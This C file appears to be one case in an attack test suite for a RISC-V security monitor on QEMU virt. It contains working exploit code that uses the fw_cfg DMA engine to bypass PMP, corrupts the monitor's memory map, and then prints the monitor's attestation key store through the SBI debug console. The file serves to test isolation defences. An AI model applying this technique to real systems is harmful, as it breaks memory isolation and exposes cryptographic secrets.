/*
 * A bus master against the monitor: QEMU virt's fw_cfg DMA engine writes physical
 * memory without PMP. The hypervisor has it write "QEMU" and zeros over the monitor's
 * record of where its own memory lies (mem.monitor_base and monitor_size), after which
 * the monitor takes its own data for hypervisor memory, and asks the debug console to
 * print the start of the monitor's key store. run-attacks.py passes where the firmware
 * keeps both (its symbol table) and checks the printed bytes against the attestation
 * key it derives from the seed it loaded.
 */
#include "atk.h"
#include "sbi.h"

#define FW_CFG_DMA_REG 0x10100010UL
#define FW_CFG_DMA_READ 0x02u
#define FW_CFG_DMA_SELECT 0x08u
#define FW_CFG_SIGNATURE 0x0000u /* "QEMU": 4 bytes, zeros after them */
#define MEM_MONITOR_BASE 16      /* offsetof(struct mem_layout, monitor_base), platform.h */
#define KEY_BYTES 81             /* the key store up to the end of the attestation seed */

static void put_be32(uint8_t *p, uint32_t v)
{
	for (unsigned i = 0; i < 4; i++)
		p[i] = (uint8_t)(v >> (24 - 8 * i));
}

static unsigned long be64(unsigned long v)
{
	unsigned long r = 0;
	for (unsigned i = 0; i < 8; i++)
		r = (r << 8) | ((v >> (8 * i)) & 0xff);
	return r;
}

static volatile uint8_t access[16] __attribute__((aligned(16)));

enum atk_verdict atk_dma_monitor_secret(struct atk_report *r)
{
	if (!atk_env.monitor_mem || !atk_env.monitor_keys) {
		ev(r, "not told where the firmware keeps its memory map and keys");
		return ATK_NOT_APPLICABLE;
	}
	unsigned long target = atk_env.monitor_mem + MEM_MONITOR_BASE;
	put_be32((uint8_t *)access, FW_CFG_SIGNATURE << 16 | FW_CFG_DMA_SELECT | FW_CFG_DMA_READ);
	put_be32((uint8_t *)access + 4, 16);
	for (unsigned i = 0; i < 8; i++)
		access[8 + i] = (uint8_t)(target >> (56 - 8 * i));
	__asm__ __volatile__("fence" ::: "memory");
	if (!atk_hs_store(FW_CFG_DMA_REG, be64((unsigned long)access))) {
		ev(r, "the store to fw_cfg's DMA register faulted: the device is out of reach");
		return ATK_BLOCKED;
	}
	ev(r, "fw_cfg DMA over the monitor's memory map finished with control ");
	ev_hex(r, access[3]);
	con_line("attack-console-begin");
	struct sbiret s = hv_ecall(SBI_EXT_DBCN, SBI_DBCN_CONSOLE_WRITE, KEY_BYTES, atk_env.monitor_keys, 0, 0, 0);
	con_line("\nattack-console-end");
	ev(r, "; console_write of the key store returned ");
	ev_err(r, s.error);
	ev(r, ", ");
	ev_dec(r, s.value);
	ev(r, " bytes printed");
	return s.error == 0 && s.value == KEY_BYTES ? ATK_SUCCEEDED : ATK_ERROR;
}
